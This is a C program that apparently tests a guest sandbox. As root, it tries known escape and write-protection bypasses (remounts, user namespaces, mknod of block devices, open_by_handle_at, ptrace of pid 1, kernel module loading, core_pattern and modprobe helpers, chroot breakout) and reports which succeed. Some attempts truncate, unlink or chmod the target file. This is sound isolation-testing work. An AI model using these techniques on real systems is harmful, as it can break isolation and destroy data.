/* What root in a guest with write paths could try. Prints one line for each attack that works.
 * argv[1]: a path in a writable directory; argv[2]: a file on the same file system that is not. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *own, *target;

static int can_write(const char *path)
{
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return 0;
    close(fd);
    return 1;
}

static int plainly(void)
{
    return can_write(target) || truncate(target, 0) == 0 || chmod(target, 0777) == 0 ||
           unlink(target) == 0 || link(target, "/tmp/link") == 0 ||
           rename(target, "/tmp/moved") == 0;
}

static int by_remount(void)
{
    return mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ||
           mount(NULL, "/", NULL, MS_REMOUNT, NULL) == 0;
}

static int by_new_mount(void)
{
    return mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == 0 || umount2(own, MNT_DETACH) == 0;
}

/* In a user namespace one may mount, but what was read-only stays so. */
static int by_user_namespace(void)
{
    pid_t pid = fork();
    if (pid == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
            _exit(0);
        (void)mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
        int ok = mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0;
        ok |= mount("/", own, NULL, MS_BIND | MS_REC, NULL) == 0 &&
              mount(NULL, own, NULL, MS_REMOUNT | MS_BIND, NULL) == 0;
        ok |= can_write(target) || umount2("/proc/sys", MNT_DETACH) == 0;
        _exit(ok);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return status != 0;
}

static int by_node(void)
{
    char path[4096];
    for (unsigned minor = 0; minor < 64; minor++) {
        snprintf(path, sizeof(path), "%s/node", own);
        if (mknod(path, S_IFBLK | 0600, makedev(254, minor)) == 0)
            return 1;
    }
    DIR *d = opendir("/dev");
    struct dirent *e;
    struct stat st;
    while (d && (e = readdir(d)))
        if (fstatat(dirfd(d), e->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISBLK(st.st_mode))
            return 1;
    return can_write("/dev/mem") || can_write("/dev/kmem");
}

static int by_handle(void)
{
    struct {
        struct file_handle h;
        unsigned char bytes[128];
    } f = {.h.handle_bytes = 128};
    int id, dir = open(own, O_RDONLY | O_DIRECTORY);
    if (dir < 0 || name_to_handle_at(AT_FDCWD, target, &f.h, &id, 0) < 0)
        return 0;
    return open_by_handle_at(dir, &f.h, O_WRONLY) >= 0;
}

static int by_pid1(void)
{
    return ptrace(PTRACE_SEIZE, 1, 0, 0) == 0 || can_write("/proc/1/mem") ||
           access("/proc/1/root/etc", F_OK) == 0 || open("/proc/1/ns/mnt", O_RDONLY) >= 0 ||
           syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 0, 0) >= 0;
}

static int by_kernel(void)
{
    return syscall(SYS_init_module, "", 0, "") == 0 || syscall(SYS_kexec_load, 0, 0, 0, 0) == 0 ||
           syscall(SYS_bpf, 0, NULL, 0) == 0;
}

static int by_helper(void)
{
    static const char *const files[] = {
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",     "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",     "/proc/sys/kernel/poweroff_cmd",
    };
    for (unsigned i = 0; i < sizeof(files) / sizeof(files[0]); i++)
        if (can_write(files[i]))
            return 1;
    return 0;
}

/* Out of a second chroot, to whatever was the root before. */
static int by_chroot(void)
{
    pid_t pid = fork();
    if (pid == 0) {
        if (chroot(own) < 0)
            _exit(0);
        for (int i = 0; i < 64; i++)
            (void)!chdir("..");
        if (chroot(".") < 0)
            _exit(0);
        _exit(access("/mnt/upper/upper", F_OK) == 0 || can_write(target));
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return status != 0;
}

static int by_capability(void)
{
    static const int caps[] = {2, 16, 17, 19, 21, 22, 27, 38, 39, 40};
    for (unsigned i = 0; i < sizeof(caps) / sizeof(caps[0]); i++)
        if (prctl(PR_CAPBSET_READ, caps[i], 0, 0, 0) != 0)
            return 1;
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int (*attack)(void);
    } attacks[] = {
        {"plainly", plainly},
        {"remount", by_remount},
        {"new mount", by_new_mount},
        {"user namespace", by_user_namespace},
        {"node", by_node},
        {"handle", by_handle},
        {"pid 1", by_pid1},
        {"kernel", by_kernel},
        {"helper", by_helper},
        {"chroot", by_chroot},
        {"capability", by_capability},
    };
    if (argc != 3)
        return 2;
    own = argv[1];
    target = argv[2];
    for (unsigned i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
        if (attacks[i].attack())
            printf("%s\n", attacks[i].name);
    printf("done\n");
    return 0;
}
